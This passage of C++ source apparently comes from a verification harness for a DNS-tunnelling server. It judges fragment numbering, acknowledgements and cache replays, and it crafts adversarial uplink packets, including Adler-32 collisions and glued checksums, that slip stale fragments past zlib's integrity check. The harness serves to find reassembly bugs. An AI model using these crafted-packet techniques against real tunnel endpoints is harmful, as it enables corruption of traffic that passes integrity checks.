			// answers given before the session lowered its fragment size were cut for the larger size: the server forgets them when the
			// size goes down (they could only be replayed oversized, C15), so such a repeat is at best in the query-memory window
			bool forgotten = found && pos < p.cache_floor;
			if (found && rank < 4 - p.flips && forgotten) R.n_red_after_lower++;
			if (found && rank < 4 - p.flips && !forgotten) { r.window = 1; R.n_red_cache++; }
			else if (found && rank_kind < (o.ack.is_ping ? 30 : 15) - p.flips) { r.window = 2; R.n_red_qmem++; }
		}
		if (o.ack.is_data && o.ack.last) R.n_red_lastfrag++;
	}

	void on_server_emit(const sim::Datagram &dg)
	{
		refproto::Answer a;
		if (!refproto::decode_answer(dg.data, a)) {
			// header-only parse to find the query it answers
			if (a.msg.q.size() != 1) return;
		}
		std::string qn = a.msg.q.size() == 1 ? a.msg.q[0].name.dotted() : std::string();
		// Which query does this answer belong to?  Several recorded queries may share (address, id, name): the
		// original and its re-deliveries.  (1) the datagram the server is processing right now, if it has this key and
		// is unanswered (immediate answers, cache and qmem replays); (2) else the oldest unanswered original (a held
		// query being released); (3) else the most recently delivered unanswered re-delivery (the server remembers
		// only the last duplicate of a pending query).
		int qi = -1;
		auto key_ok = [&](const QRec &r) { return r.t_delivered && r.src == dg.dst && r.id == a.id && r.name == qn && r.answers == 0; };
		if (cur_qrec >= 0 && key_ok(R.q[cur_qrec])) qi = cur_qrec;
		if (qi < 0) for (size_t k = 0; k < R.q.size(); k++) if (!R.q[k].redelivery && key_ok(R.q[k])) { qi = (int)k; break; }
		if (qi < 0) for (size_t k = R.q.size(); k-- > 0;) if (R.q[k].redelivery && key_ok(R.q[k])) { qi = (int)k; break; }
		if (qi < 0) return;   // handshake traffic or surplus (the wire monitor judges surplus)
		QRec &r = R.q[qi];
		r.answers++;
		Emit e; e.t = sim::W.now; e.dst = dg.dst; e.id = a.id; e.user = r.ack.user; e.qrec = qi; e.to_redelivery = r.redelivery;
		e.payload = a.payload;
		bool hdr = a.ok && refproto::down_header(a.payload, e.h);
		e.has_data = hdr && a.payload.size() > 2;
		R.em.push_back(e);
		r.emits.push_back(R.em.size() - 1);
		if (getenv("VERIF_TRACE")) fprintf(stderr, "%.6f   server answers q#%d%s id=%u -> %s payload %zuB %s hdr dn=%d/%d last=%d\n", sim::W.now / 1e6, qi, r.redelivery ? "(re-delivery)" : "", a.id, dg.dst.str().c_str(), a.payload.size(), hexs(a.payload, 8).c_str(), e.h.dn_seq, e.h.dn_frag, e.h.last);
		int pk = peer_of_user(r.ack.user);
		if (pk < 0) return;
		Peer &p = *R.peers[pk];
		if (!a.ok) return;
		bool is_x = a.payload.size() == 1 && a.payload[0] == 'x';
		bool is_badip = a.payload.size() == 5 && !memcmp(a.payload.data(), "BADIP", 5);
		if (is_badip) return;
		if (!r.redelivery) {
			p.saved_order.push_back(qi);
			if (hdr && !is_x) judge_stream(p, e, r);
		} else {
			judge_redelivery(p, e, r, is_x);
		}
	}

	// position of an emission in the session's downstream stream
	static bool same_or_prefix(const Bytes &a, const Bytes &b)
	{
		size_t n = std::min(a.size(), b.size());
		return n == 0 || !memcmp(a.data(), b.data(), n);
	}

	bool fresh_ack(const Stream &st, int user, int seq, int frag) const
	{
		for (auto it = R.acks.rbegin(); it != R.acks.rend(); ++it) {
			if (it->t < st.t_first_cur) break;
			if (!it->redelivery && it->user == user && it->seq == seq && it->frag == frag) return true;
		}
		return false;
	}

	void start_series(Peer &p, const Emit &e)
	{
		Stream &st = p.st;
		st.started = true; st.seq = e.h.dn_seq; st.frag = e.h.dn_frag; st.series++;
		st.acc.clear(); st.cur.assign(e.payload.begin() + 2, e.payload.end()); st.cur_last = e.h.last;
		st.t_first_cur = e.t; st.minF = p.F; st.nfr = 1;
		// identify the packet: the next one (in the order the server read them) whose compressed form starts with these bytes
		int from = st.pkt + 1;
		st.pkt = -1;
		for (int j = std::max(0, from); j < (int)p.zs.size(); j++)
			if (p.zs[j].size() >= st.cur.size() && !memcmp(p.zs[j].data(), st.cur.data(), st.cur.size())) { st.pkt = j; break; }
		// keep searching position even when unidentified
		if (st.pkt < 0) st.pkt = from - 1;
	}

	// conservative lower bound of what one answer of the session's record type carries (C09 measures the real figures)
	size_t format_cap() const { int k = R.cfg.qtype; return (k == 6 || k == 7) ? 100 : ((k == 4 || k == 5) ? 1000 : 4094); }

	// A fragment size larger than the answer format can carry is a misconfiguration of the session: the answer then
	// holds a cut-off fragment (C09: "a proper prefix"), the packet is lost by construction and nothing about its
	// numbering or flag can be read off the wire.  Such packets are counted, not judged (the size bound still is).
	bool truncated_by_format(Peer &p, size_t offset, size_t got)
	{
		Stream &st = p.st;
		if (st.pkt < 0 || st.pkt >= (int)p.zs.size()) return false;
		size_t intended = std::min<size_t>(std::min<size_t>((size_t)std::max(p.F, 0), 4094), p.zs[st.pkt].size() - std::min(offset, p.zs[st.pkt].size()));
		return got < intended && intended > format_cap();
	}

	void judge_stream(Peer &p, const Emit &e, const QRec &r)
	{
		(void)r;
		if (!e.has_data) return;
		R.n_data_emits++;
		Stream &st = p.st;
		int user = p.sc.userid;
		Bytes B(e.payload.begin() + 2, e.payload.end());
		if (!st.started || e.h.dn_seq != st.seq) {
			int prev_pkt = st.pkt;
			bool was_started = st.started;
			if (was_started && st.nfr > 0 && st.pkt >= 0 && st.pkt < (int)p.zs.size() && st.acc.size() + st.cur.size() < p.zs[st.pkt].size()) R.n_giveup++;
			start_series(p, e);
			bool identified = st.pkt >= 0 && st.pkt < (int)p.zs.size() && st.pkt != prev_pkt - 0 && p.zs[st.pkt].size() >= B.size() && !memcmp(p.zs[st.pkt].data(), B.data(), B.size()) && (!was_started || st.pkt > prev_pkt);
			if (e.h.dn_frag != 0)
				R.v.fail("C15", "C15:first-fragment-not-0", fmt("user %d: a new downstream packet (seq %d) starts with fragment number %d", user, e.h.dn_seq, e.h.dn_frag));
			if (identified && truncated_by_format(p, 0, B.size())) { R.n_trunc++; st.nfr = -1000; return; }
			if (!identified) { st.pkt = prev_pkt; R.v.fail("C16", "C16:stream-unidentified", fmt("user %d: downstream fragment (seq %d frag %d, %zu bytes) is not the beginning of any packet the server read from its tun device after the previous one", user, e.h.dn_seq, e.h.dn_frag, B.size())); st.nfr = -1000; return; }
			check_last(p, e, B.size());
			return;
		}
		if (st.nfr < 0) return;   // unidentified series: nothing more can be judged
		st.minF = std::min(st.minF, p.F);
		const Bytes &Z = p.zs[st.pkt];
		bool longpkt = Z.size() > (size_t)16 * (size_t)std::max(1, std::min(st.minF, 4094));
		if (truncated_by_format(p, e.h.dn_frag == st.frag ? st.acc.size() : st.acc.size() + st.cur.size(), B.size())) { R.n_trunc++; st.nfr = -1000; return; }
		if (e.h.dn_frag == st.frag) {
			// re-sent fragment (possibly with a changed size after an N request)
			if (!same_or_prefix(B, st.cur))
				R.v.fail("C16", "C16:resend-differs", fmt("user %d: fragment %d/%d was re-sent with different bytes", user, st.seq, st.frag));
			st.cur = B; st.cur_last = e.h.last;
			check_last(p, e, st.acc.size() + B.size());
			return;
		}
		if (e.h.dn_frag == ((st.frag + 1) & 15)) {
			if (!fresh_ack(st, user, st.seq, st.frag))
				R.v.fail("C15", "C15:advance-without-ack", fmt("user %d: server moved from downstream fragment %d/%d to %d without receiving an acknowledgement for it", user, st.seq, st.frag, e.h.dn_frag)),
				R.v.fail("C16", "C16:advance-without-fresh-ack", fmt("user %d: downstream stream advanced past %d/%d although no original query acknowledged that fragment after it was first sent", user, st.seq, st.frag));
			if (st.cur_last && !longpkt)
				R.v.fail("C15", "C15:fragment-after-last", fmt("user %d: fragment %d/%d follows a fragment that carried the last-fragment flag", user, st.seq, e.h.dn_frag));
			st.acc.insert(st.acc.end(), st.cur.begin(), st.cur.end());
			st.cur = B; st.cur_last = e.h.last; st.frag = e.h.dn_frag; st.t_first_cur = e.t; st.nfr++;
			if (st.nfr >= 3) R.n_multi3++;
			if (st.acc.size() + B.size() > Z.size() || memcmp(Z.data() + st.acc.size(), B.data(), B.size()))
				R.v.fail("C16", "C16:stream-not-contiguous", fmt("user %d: fragment %d/%d does not continue the packet where the previous fragment ended (offset %zu of %zu)", user, st.seq, st.frag, st.acc.size(), Z.size()));
			check_last(p, e, st.acc.size() + B.size());
			return;
		}
		if (longpkt) { R.n_long++; return; }
		R.v.fail("C15", "C15:numbering", fmt("user %d: downstream fragment number went from %d to %d within packet seq %d (fragments must be numbered consecutively)", user, st.frag, e.h.dn_frag, st.seq));
		R.v.fail("C16", "C16:rewind", fmt("user %d: downstream stream position went from fragment %d to %d within packet seq %d", user, st.frag, e.h.dn_frag, st.seq));
	}

	void check_last(Peer &p, const Emit &e, size_t upto)
	{
		Stream &st = p.st;
		if (st.pkt < 0 || st.pkt >= (int)p.zs.size()) return;
		const Bytes &Z = p.zs[st.pkt];
		bool at_end = upto == Z.size();
		if (e.h.last && !at_end)
			R.v.fail("C15", "C15:last-flag-early", fmt("user %d: fragment %d/%d carries the last-fragment flag after %zu of %zu bytes of the packet", p.sc.userid, st.seq, st.frag, upto, Z.size()));
		if (!e.h.last && at_end)
			R.v.fail("C15", "C15:last-flag-missing", fmt("user %d: fragment %d/%d completes the packet (%zu bytes) but does not carry the last-fragment flag", p.sc.userid, st.seq, st.frag, Z.size()));
	}

	void judge_redelivery(Peer &p, const Emit &e, const QRec &r, bool is_x)
	{
		// An answer to a re-delivery either replays bytes that were sent before (answer cache, or a duplicate of a
		// pending query answered together with it), or -- when the server took it for a new query, e.g. a pending
		// query repeated with changed letter case -- is a live part of the downstream stream.  Live emissions are
		// judged like any other: numbering, contiguity, and above all "advances only after a fresh acknowledgement
		// carried by an ORIGINAL query" (acknowledgements inside re-deliveries never justify an advance).
		if (e.has_data && !is_x) {
			bool known = false;
			for (size_t k = 0; k + 1 < R.em.size() && !known; k++)
				if (R.em[k].user == e.user && R.em[k].payload == e.payload) known = true;
			if (!known) judge_stream(p, e, r);
		}
		if (r.window == 1 && r.identical && r.of >= 0) {
			const QRec &o = R.q[r.of];
			if (!o.emits.empty()) {
				const Emit &oe = R.em[o.emits[0]];
				if (oe.payload != e.payload)
					R.v.fail("C16", "C16:cache-payload", fmt("user %d: identical repeat of one of the 4 most recently answered queries got a different payload (%zu bytes, original %zu bytes): %s vs %s", e.user, e.payload.size(), oe.payload.size(), hexs(e.payload, 12).c_str(), hexs(oe.payload, 12).c_str()));
				else R.n_cache_same++;
			}
		}
	}

	// ---- peer side
	void absorb_new(Peer &p)
	{
		for (; p.absorbed < p.sc.inbox.size(); p.absorbed++) {
			const scn::Rx &rx = p.sc.inbox[p.absorbed];
			if (rx.is_raw || !rx.ans.ok) continue;
			// only the first answer to each original is used (a real client ignores ids it is not waiting for)
			for (size_t k = R.q.size(); k-- > 0;) {
				QRec &r = R.q[k];
				if (r.peer == peer_index(p) && !r.redelivery && r.id == rx.ans.id && r.name == rx.ans.qname) {
					if (!r.seen_by_peer && p.frozen > 0) { r.seen_by_peer = true; p.frozen--; R.n_lost_answers++; }
					if (!r.seen_by_peer) { r.seen_by_peer = true; int s0 = p.sc.dn_seq, f0 = p.sc.dn_frag; p.sc.absorb(rx); if ((s0 != p.sc.dn_seq || f0 != p.sc.dn_frag) && p.prev_acks.size() < 64) p.prev_acks.push_back(std::make_pair(s0, f0)); }
					break;
				}
			}
		}
	}
	int peer_index(const Peer &p) const { for (size_t k = 0; k < R.peers.size(); k++) if (R.peers[k].get() == &p) return (int)k; return -1; }

	int record(Peer &p, uint16_t id, bool redelivery, int of, const sim::Addr &src, const std::string &name, uint16_t qtype)
	{
		R.t_last_sent = sim::W.now;
		QRec r; r.t_sent = sim::W.now; r.src = src; r.id = id; r.name = name; r.qtype = qtype; r.peer = peer_index(p);
		r.redelivery = redelivery; r.of = of;
		refproto::Query qq; qq.ok = true; qq.name = name;
		int d = ref::match_datalen(name, R.cfg.domain);
		qq.data = d > 0 ? name.substr(0, d) : std::string();
		if (!qq.data.empty()) { qq.cmd = qq.data[0]; qq.rest = qq.data.substr(1); if (!qq.rest.empty() && qq.rest.back() == '.') qq.rest.pop_back(); }
		refproto::query_ack(qq, r.ack);
		if (r.ack.user < 0) r.ack.user = p.sc.userid;
		R.q.push_back(r);
		return (int)R.q.size() - 1;
	}

	void do_ping(Peer &p, int ackmode)
	{
		int seq = p.sc.dn_seq, frag = p.sc.dn_frag;
		// acknowledgement games: 1 = an earlier fragment of the current packet, 2 = a position held during an earlier
		// packet (what loss, duplication and delay of queries produce; with 3-bit sequence numbers such an old position
		// can coincide with a packet the server has queued but not sent: the server must not take it for an ack,
		// see known_findings.json "fixed: property=C15 4bcd03f"), 3 = a fragment ahead, 4 = unrelated values
		if (ackmode == 1 && frag > 0) { frag = frag - 1 - (int)t.below((uint32_t)frag); }
		else if (ackmode == 2 && !p.prev_acks.empty()) { auto a = p.prev_acks[t.below((uint32_t)p.prev_acks.size())]; seq = a.first; frag = a.second; }
		else if (ackmode == 3) { frag = (frag + 1) & 15; }
		else if (ackmode == 4) { seq = (int)t.below(8); frag = (int)t.below(16); }
		std::string name = refproto::name_ping(p.sc.userid, seq, frag, p.sc.cmc++, p.sc.domain);
		uint16_t id = p.sc.send_name(name);
		record(p, id, false, -1, p.sc.addr, name, refproto::qtype_of(p.sc.qtype_k));
		note(fmt("peer%d ping id=%u ack=%d/%d%s", peer_index(p), id, seq, frag, ackmode ? " (ack game)" : ""));
	}

	size_t up_chunk_cap(const Peer &p) const
	{
		// characters available in a 255-character name, minus domain, header and dots; conservative
		int space = 255 - (int)p.sc.domain.size() - 8 - 5;
		space -= space / 57 + 1;
		return (size_t)std::max(1, space * ref::CODEC_BITS[p.sc.up_codec] / 8 - 1);
	}

	void do_up(Peer &p)
	{
		static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
		if (!p.up_active && !p.stray_name.empty() && p.merge_stage == 0) {
			int d = (p.sc.up_seq - p.stray_seq) & 7;
			if (d >= 4) {
				uint16_t id = p.sc.send_name(p.stray_name);
				record(p, id, false, -1, p.sc.addr, p.stray_name, refproto::qtype_of(p.sc.qtype_k));
				note(fmt("peer%d: a copy of the last fragment of packet seq %d, held up in the network, arrives now (sender is at seq %d)", peer_index(p), p.stray_seq, p.sc.up_seq));
				p.stray_name.clear(); R.n_stray++;
				sim::W.run_for(30000);
			}
		}
		if (!p.up_active) {
			if (p.up_queue.empty()) {
				Bytes dst = R.s->server_tun_ip(); Peer *to = nullptr;
				if (P.c2c && R.peers.size() > 1 && t.chance(1, 3)) { Peer &o = *R.peers[t.below((uint32_t)R.peers.size())]; if (&o != &p) { dst = o.tun_ip; to = &o; } }
				Bytes pkt = scn::gen_packet(t, dst, p.tun_ip, (uint16_t)(1000 + p.up_completed.size()), std::min<size_t>(P.max_body, 900));
				p.up_next_to = to ? peer_index(*to) : -1; if (to) R.n_c2c++;
				p.up_queue.push_back(pkt);
			}
			p.up_cur_pkt = p.up_queue.front(); p.up_queue.pop_front(); p.up_cur_to = p.up_next_to; p.up_next_to = -1;
			p.up_z = refproto::zcompress(p.up_cur_pkt); p.up_off = 0; p.up_frag = 0; p.up_active = true;
			p.up_force_first = 0; p.restart_partner = false;
			bool wrap = false;
			if (P.wrap_games && p.merge_stage < 2 && p.up_cur_to < 0 && !p.up_completed.empty() && t.chance(1, 4)) {
				// Seven packets of this client were lost entirely (the server saw nothing of them), so this one carries the sequence
				// number of the last packet the server completed.  Its content is crafted: incompressible (zlib stores it verbatim)
				// with a complete zlib stream of ANOTHER packet exactly where its second fragment begins.
				size_t F = up_chunk_cap(p);
				Bytes Q = scn::tun_packet(R.s->server_tun_ip(), p.tun_ip, Bytes(12 + R.n_wrap % 20, (uint8_t)(0x51 + R.n_wrap)), (uint16_t)(0x5100 + R.n_wrap));
				Bytes zq = refproto::zcompress(Q);
				Bytes Pk(p.up_cur_pkt.begin(), p.up_cur_pkt.begin() + std::min<size_t>(24, p.up_cur_pkt.size()));
				uint32_t x = (uint32_t)(R.n_wrap * 2654435761u + 99) | 1;
				while (Pk.size() + 7 < F) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; Pk.push_back((uint8_t)(x >> 11)); }
				if (Pk.size() + 7 == F && F >= 40) {
					Pk.insert(Pk.end(), zq.begin(), zq.end());
					for (int k = 0; k < 20; k++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; Pk.push_back((uint8_t)(x >> 11)); }
					Bytes zp = refproto::zcompress(Pk);
					if (zp.size() == Pk.size() + 11 && !memcmp(zp.data() + 7, Pk.data(), Pk.size()) && zp.size() - F <= F) {
						p.up_cur_pkt = Pk; p.up_z = zp; p.up_force_first = F; wrap = true; R.n_wrap++;
						sim::W.run_for(28000000);   // seven packets, each sent once and repeated three times at 1 s intervals
						note(fmt("peer%d: seven packets lost entirely; next packet (crafted, %zu bytes) re-uses sequence number %d", peer_index(p), Pk.size(), p.sc.up_seq));
					}
				}
			}
			// Merge game: the sender gives a packet up after its first fragment (the acknowledgements were lost), loses seven more packets
			// entirely, and the packet that then re-uses the sequence number differs from the abandoned one in its first fragment only in a
			// way Adler-32 cannot see (three consecutive bytes +1 -2 +1) and has a different tail.  A receiver that appends the new second
			// fragment to the old first fragment gets past zlib's checksum with a packet nobody sent.
			if (!wrap && P.wrap_games && p.merge_stage == 3) {
				// Glue game: the packet after an abandoned one (next sequence number, same length) carries, where the abandoned packet's
				// checksum would sit if the new packet had been stored BEHIND the abandoned first fragment, the Adler-32 of exactly that
				// concatenation.  A receiver that keeps stale bytes in its buffer when a new packet starts gets past zlib with it.
				const Bytes &A = p.up_abandoned.back();
				size_t F = up_chunk_cap(p);
				Bytes za = refproto::zcompress(A);
				Bytes B(A.begin(), A.begin() + 24);
				uint32_t x = (uint32_t)((R.n_glue + 3) * 2654435761u + 11) | 1;
				while (B.size() < A.size()) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; B.push_back((uint8_t)(x >> 11)); }
				// glued = za[0..F) + zb[0..L-F), L = za.size(); its last four bytes are zb[L-F-4 .. L-F) = B[L-F-11 .. L-F-7)
				size_t L = za.size();
				if (L >= F + 35 && L - F - 7 <= B.size()) {
					Bytes zb = refproto::zcompress(B);
					if (zb.size() == L && !memcmp(zb.data() + 7, B.data(), B.size())) {
						Bytes raw(za.begin() + 7, za.begin() + F);            // the abandoned packet's bytes in the first fragment
						raw.insert(raw.end(), zb.begin(), zb.begin() + (L - F - 4));
						uint32_t a = 1, b = 0; for (uint8_t v : raw) { a = (a + v) % 65521; b = (b + a) % 65521; }
						uint32_t ad = (b << 16) | a;
						size_t at = L - F - 4 - 7;
						B[at] = (uint8_t)(ad >> 24); B[at + 1] = (uint8_t)(ad >> 16); B[at + 2] = (uint8_t)(ad >> 8); B[at + 3] = (uint8_t)ad;
						zb = refproto::zcompress(B);
						if (zb.size() == L && !memcmp(zb.data() + 7, B.data(), B.size())) {
							p.up_cur_pkt = B; p.up_z = zb; p.up_force_first = 0; p.up_cur_to = -1; R.n_glue++;
							note(fmt("peer%d: next packet (%zu bytes) carries the Adler-32 of 'abandoned first fragment + its own beginning' at offset %zu", peer_index(p), B.size(), at));
						}
					}
				}
				p.merge_stage = 4;
			}
			if (!wrap && P.wrap_games && p.merge_stage == 2) {
				p.up_cur_pkt = p.merge_next; p.up_z = refproto::zcompress(p.up_cur_pkt); p.up_force_first = up_chunk_cap(p); p.up_cur_to = -1; p.merge_stage = 0; wrap = true; R.n_merge++;
				// Is the new packet's first fragment lost as well (the sender goes on when ANY answer acknowledges (seq, 0), e.g. the answer to
				// an earlier ping)?  Then nothing tells the server that the fragment it holds belongs to another packet: known finding K4,
				// excluded by construction unless the driver replays the pinned case.
				p.merge_lose_first = t.chance(1, 2);
				if (p.merge_lose_first && !known_enabled("K4")) { p.merge_lose_first = false; R.n_excluded_k4++; }
				if (p.merge_lose_first) R.n_merge_lost_first++;
				p.restart_partner = !p.merge_lose_first;
				sim::W.run_for(28000000);
				note(fmt("peer%d: seven packets lost entirely; next packet (Adler-equivalent partner of the abandoned one, %zu bytes) re-uses sequence number %d", peer_index(p), p.up_cur_pkt.size(), p.sc.up_seq));
			} else if (!wrap && P.wrap_games && p.merge_stage == 0 && p.up_cur_to < 0 && t.chance(1, 4)) {
				size_t F = up_chunk_cap(p);
				Bytes A(p.up_cur_pkt.begin(), p.up_cur_pkt.begin() + std::min<size_t>(24, p.up_cur_pkt.size()));
				uint32_t x = (uint32_t)((R.n_merge + 7) * 2246822519u + 5) | 1;
				while (A.size() + 7 < F) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; A.push_back((uint8_t)(x >> 11)); }
				if (A.size() + 7 == F && F >= 60) {
					Bytes B = A; size_t k = 30; bool ok = false;
					for (; k + 3 < B.size(); k++) if (B[k] < 255 && B[k + 1] >= 2 && B[k + 2] < 255) { B[k]++; B[k + 1] -= 2; B[k + 2]++; ok = true; break; }
					for (int j = 0; j < 40; j++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; A.push_back((uint8_t)(x >> 11)); B.push_back((uint8_t)(x >> 19)); }
					Bytes za = refproto::zcompress(A), zb = refproto::zcompress(B);
					if (ok && za.size() == A.size() + 11 && zb.size() == B.size() + 11 && !memcmp(za.data() + 7, A.data(), A.size()) && !memcmp(zb.data() + 7, B.data(), B.size())) {
						p.up_cur_pkt = A; p.up_z = za; p.up_force_first = F; p.merge_next = B; p.merge_stage = 1;
						// Late-fragment game (one start in three): nothing is lost.  A is sent and acknowledged completely, but a first copy of its
						// last fragment (other cache-miss counter, so the server does not know the name) is held up in the network until the sender
						// is eight packets further on, and arrives between the two fragments of B, which now has A's sequence number.  Nothing the
						// server sees tells the copy from B's second fragment: known finding K5, excluded by construction unless the driver
						// replays the pinned case.
						if (t.chance(1, 3)) { if (known_enabled("K5")) p.merge_stage = 5; else R.n_excluded_k5++; }
					}
				}
			}
			if (p.merge_stage == 4) p.merge_stage = 0;
			if (!wrap) p.sc.up_seq = (p.sc.up_seq + 1) & 7;
			if (p.merge_stage == 6 && p.sc.up_seq == p.late_seq && p.up_cur_to < 0) {
				p.up_cur_pkt = p.merge_next; p.up_z = refproto::zcompress(p.up_cur_pkt); p.up_force_first = up_chunk_cap(p); p.merge_stage = 7;
				note(fmt("peer%d: eight packets on; this packet (Adler-equivalent partner, %zu bytes) has sequence number %d again", peer_index(p), p.up_cur_pkt.size(), p.sc.up_seq));
			}
		}
		if (p.merge_stage == 7 && p.up_off > 0) {
			sim::W.run_for(30000);
			uint16_t id = p.sc.send_name(p.late_name);
			record(p, id, false, -1, p.sc.addr, p.late_name, refproto::qtype_of(p.sc.qtype_k));
			note(fmt("peer%d: the held-up copy of the last fragment of the packet that had sequence number %d eight packets ago arrives now", peer_index(p), p.late_seq));
			p.late_name.clear(); p.merge_stage = 0; R.n_late++;
			sim::W.run_for(30000);
		}
		size_t cap = up_chunk_cap(p);
		size_t n = std::min(p.up_z.size() - p.up_off, (size_t)(t.chance(1, 3) ? 1 + t.below((uint32_t)cap) : cap));
		if (p.up_force_first) n = p.up_off == 0 ? p.up_force_first : p.up_z.size() - p.up_off;   // crafted packet: exactly two fragments
		// never need more than 16 fragments
		size_t left = p.up_z.size() - p.up_off; int frags_left = 16 - p.up_frag;
		if (frags_left <= 1) n = left; else n = std::max(n, (left + frags_left - 1) / frags_left);
		if (n > cap) { /* cannot fit: abandon this packet */ p.up_active = false; return; }
		Bytes chunk(p.up_z.begin() + p.up_off, p.up_z.begin() + p.up_off + n);
		bool last = p.up_off + n >= p.up_z.size();
		if (p.merge_lose_first && p.up_off == 0) {   // lost on the way; an acknowledgement for (seq, 0) arrives all the same (see above)
			p.merge_lose_first = false; p.sc.data_cmc = (p.sc.data_cmc + 1) % 36;
			note(fmt("peer%d data up=%d/0 %zuB is lost on the way", peer_index(p), p.sc.up_seq, n));
			p.sc.send_ping(); sim::W.run_for(30000);
			p.up_off += n; p.up_frag++;
			return;
		}
		std::string name = refproto::name_data(p.sc.userid, p.sc.up_seq, p.up_frag, p.sc.dn_seq, p.sc.dn_frag, last, cm[p.sc.data_cmc], p.sc.up_codec, chunk, p.sc.domain);
		p.sc.data_cmc = (p.sc.data_cmc + 1) % 36;
		uint16_t id = p.sc.send_name(name);
		int qi = record(p, id, false, -1, p.sc.addr, name, refproto::qtype_of(p.sc.qtype_k));
		if (P.wrap_games && last && p.up_force_first && p.up_frag >= 1 && p.stray_name.empty() && !p.merge_stage) {
			// Stray game: this last fragment of a crafted packet was sent twice -- the first copy (other cache-miss counter, so the server
			// does not know it) is held up in the network and arrives when the sender is four to seven packets further on
			p.stray_name = refproto::name_data(p.sc.userid, p.sc.up_seq, p.up_frag, p.sc.dn_seq, p.sc.dn_frag, last, cm[(p.sc.data_cmc + 11) % 36], p.sc.up_codec, chunk, p.sc.domain);
			p.stray_seq = p.sc.up_seq;
		}
		if (last && p.merge_stage == 5) {
			p.late_name = refproto::name_data(p.sc.userid, p.sc.up_seq, p.up_frag, p.sc.dn_seq, p.sc.dn_frag, last, cm[(p.sc.data_cmc + 17) % 36], p.sc.up_codec, chunk, p.sc.domain);
			p.late_seq = p.sc.up_seq; p.merge_stage = 6;
		}
		if (last && p.up_cur_to >= 0) R.c2c_on_delivery[qi] = std::make_pair(p.up_cur_to, p.up_cur_pkt);   // the receiver's downstream stream will carry it from the moment the server has read this query
		note(fmt("peer%d data id=%u up=%d/%d last=%d %zuB ack=%d/%d", peer_index(p), id, p.sc.up_seq, p.up_frag, (int)last, n, p.sc.dn_seq, p.sc.dn_frag));
		p.up_off += n; p.up_frag++;
		if (last) { p.up_active = false; p.up_completed.push_back(p.up_cur_pkt); if (p.restart_partner) { R.must_deliver.push_back(p.up_cur_pkt); p.restart_partner = false; } }
		else if (p.merge_stage == 1) {
			// the acknowledgement never arrives: repeat the fragment as the client does (new cache-miss counter, up to three times), then give the packet up
			int rep = (int)t.below(4);
			for (int r = 0; r < rep; r++) {
				sim::W.run_for(1000000);
				std::string again = refproto::name_data(p.sc.userid, p.sc.up_seq, 0, p.sc.dn_seq, p.sc.dn_frag, false, cm[p.sc.data_cmc], p.sc.up_codec, chunk, p.sc.domain);
				p.sc.data_cmc = (p.sc.data_cmc + 1) % 36;
				uint16_t id2 = p.sc.send_name(again);
				record(p, id2, false, -1, p.sc.addr, again, refproto::qtype_of(p.sc.qtype_k));
			}
			p.up_active = false; p.up_abandoned.push_back(p.up_cur_pkt); p.merge_stage = t.chance(1, 3) ? 3 : 2;
			note(fmt("peer%d: no acknowledgement for the first fragment (%d repeats); packet given up", peer_index(p), rep));
		}
	}

	void do_offer(Peer &p)
	{
		size_t maxb = P.max_body;
		if (P.big_frag && p.F > 1200) maxb = 4600;
		Bytes pkt = scn::gen_packet(t, p.tun_ip, R.s->server_tun_ip(), (uint16_t)(2000 + p.offered.size() + t.below(30000)), maxb);
		sim::W.offer_tun(R.s->srv, pkt);
		note(fmt("tun packet for peer%d %zuB (z=%zu)", peer_index(p), pkt.size(), refproto::zcompress(pkt).size()));
	}

	void do_nreq(Peer &p)
	{
		int F = P.wild_frag ? (t.chance(2, 3) ? FLIST[t.below(sizeof FLIST / sizeof FLIST[0])] : (int)t.below(65536)) : t.range(20, 1200);
		if (P.wild_frag && F > (int)format_cap() && t.chance(2, 3)) F = t.range(2, (int)format_cap());
		std::string name = refproto::name_set_fragsize(p.sc.userid, F, p.sc.cmc++, p.sc.domain);
		uint16_t id = p.sc.send_name(name);
		const scn::Rx *r = p.sc.wait_answer(id, 20000);
		std::string got = r && r->ans.ok ? std::string(r->ans.payload.begin(), r->ans.payload.end()) : std::string("(none)");
		bool echoed = r && r->ans.ok && r->ans.payload.size() == 2 && ((r->ans.payload[0] << 8) | r->ans.payload[1]) == F;
		if (F < 2) {
			R.n_badfrag++;
			if (echoed || got != "BADFRAG") R.v.fail("C15", "C15:small-size-accepted", fmt("fragment size %d (< 2) was not rejected with BADFRAG: answer '%s'", F, hexs(Bytes(got.begin(), got.end()), 16).c_str()));
		} else if (echoed) { if (F < p.F) p.cache_floor = p.saved_order.size(); p.F = F; R.n_nreq_ok++; }
		note(fmt("peer%d N %d -> %s", peer_index(p), F, echoed ? "ok" : got.c_str()));
	}

	// The session falls silent for more than 60 s (its slot expires) and the same host logs in again: it normally gets the same
	// slot back, and nothing the earlier session negotiated (fragment size, codecs, lazy mode, queued packets) may survive.
	bool do_recycle(Peer &p)
	{
		uint64_t recycle_t0 = sim::W.now;
		sim::W.run_for(61000000 + t.below(15000000));
		absorb_new(p);
		if (P.recycle_moves && t.chance(1, 2)) { p.sc.addr.port = (uint16_t)(p.sc.addr.port + 7); p.sc.attach(); R.n_recycled_moved++; note(fmt("peer%d comes back from another port: %s", peer_index(p), p.sc.addr.str().c_str())); }
		int old_user = p.sc.userid, oldF = p.F;
		p.sc.dn_seq = p.sc.dn_frag = 0; p.sc.dn_buf.clear(); p.sc.up_seq = 0; p.sc.up_codec = 0; p.sc.data_cmc = 0;
		p.lazy = t.chance(2, 3);
		char de = t.chance(1, 2) ? 0 : "TSUVR"[t.below(5)];
		static const int UPB[] = {0, 5, 6, 26, 7};
		int upb = UPB[t.pick({3, 1, 2, 2, 2})];
		int F0 = t.chance(1, 2) ? 0 : (P.wild_frag ? t.range(2, 1300) : t.range(20, 1200));
		if (F0 > (int)format_cap()) F0 = t.range(2, (int)format_cap());
		if (!p.sc.handshake(p.lazy, F0, de, upb)) return false;
		p.F = F0 ? F0 : 100;
		p.tun_ip = ip_of_text(p.sc.tun_ip_text);
		p.up_queue.clear(); p.up_active = false; p.up_off = 0; p.up_frag = 0;
		int keep = (int)p.zs.size() - 1;
		p.st = Stream(); p.st.pkt = keep;          // packets read for the earlier session are not expected in the new one
		p.prev_acks.clear(); p.flips = 0; p.frozen = 0; p.raw = false; p.saved_order.clear(); p.cache_floor = 0; p.q_epoch = R.q.size();
		R.n_recycled++;
